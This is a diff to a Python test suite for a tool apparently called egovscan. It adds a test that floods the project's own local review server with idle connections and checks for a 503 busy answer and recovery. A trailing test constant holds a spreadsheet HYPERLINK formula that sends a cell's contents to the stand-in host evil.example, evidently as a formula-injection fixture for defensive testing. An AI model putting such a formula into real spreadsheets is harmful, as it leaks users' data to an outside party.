@@ -19,6 +19,7 @@ import openpyxl
 import sqlite_utils
 
 from conftest import FAST, SHOTS, egovscan, make_site, needs_browser, open_browser
+from egovscan.reviewsrv import MAX_CONNECTIONS
 
 
 def osi(db, run_id, site_id):
@@ -301,6 +302,39 @@ def test_review_server_is_not_frozen_by_a_silent_client_or_a_bad_length(two_nigh
     finally:
         proc.terminate()
         proc.wait(10)
+
+
+def test_review_server_answers_a_flood_of_connections_busy_and_recovers(two_nights):
+    """A flood of silent connections (a scanner, a stuck proxy) holds at most MAX_CONNECTIONS
+    threads: one more is answered 503 at once instead of starting a thread of its own, and the
+    page answers reviewers again as soon as the flood goes away."""
+    db_path, _ = two_nights
+    proc, address = start_review_server(db_path)
+    parts = urllib.parse.urlsplit(address)
+    flood = []
+    try:
+        for _ in range(MAX_CONNECTIONS):
+            flood.append(socket.create_connection((parts.hostname, parts.port), timeout=5))
+        deadline = time.monotonic() + 10
+        while True:                       # the server takes the flood's connections one by one
+            answer = raw_request(address, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+            if answer.startswith(b"HTTP/1.0 503 ") or time.monotonic() > deadline:
+                break
+            time.sleep(0.1)
+        assert answer.startswith(b"HTTP/1.0 503 ") and b"Retry-After: 5" in answer, answer[:80]
+        for conn in flood:
+            conn.close()
+        flood.clear()
+        deadline = time.monotonic() + 10
+        while (status := fetch(address)[0]) != 200 and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert status == 200
+    finally:
+        for conn in flood:
+            conn.close()
+        proc.terminate()
+        _, stderr = proc.communicate(timeout=10)
+    assert "Traceback" not in stderr, stderr
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
